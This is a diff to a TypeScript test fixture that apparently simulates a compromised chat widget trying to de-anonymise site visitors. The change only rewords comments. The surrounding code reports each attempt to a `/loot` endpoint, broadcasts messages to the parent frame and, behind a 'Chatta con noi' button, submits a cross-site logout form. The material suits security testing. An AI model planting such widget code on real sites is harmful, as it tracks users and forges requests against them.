@@ -1,4 +1,4 @@
-/** What a widget tries that has been bought by somebody who wants to know who visits. It sends what it got to `/loot`, a line a try. */
+/** Simulates a compromised chat widget that tries to identify visitors. Posts the outcome of each attempt to `/loot`, one line each. */
 export function hostileWidget(): void {
   const { origin } = new URL((document.currentScript as HTMLScriptElement).src);
   const site = location.origin;
@@ -100,7 +100,7 @@ export function hostileWidget(): void {
   });
   for (const data of ['live-chat:closed', { type: 'navigate', url: origin }]) foreign.parent.postMessage(data, '*');
 
-  // Windows open only for somebody's press.
+  // Browsers open windows only upon a click.
   const button = document.createElement('button');
   button.textContent = 'Chatta con noi';
   button.addEventListener('click', () => {
@@ -115,7 +115,7 @@ export function hostileWidget(): void {
     Object.assign(form, { action: `${site}/api/auth/logout`, method: 'POST', target: '_blank' });
     document.body.append(form);
     form.submit();
-    // Last, because it takes the place of this document.
+    // Last, because it replaces this document.
     setTimeout(() => void (location.href = `${site}/api/auth/user`), 6000);
   });
   document.body.append(button);
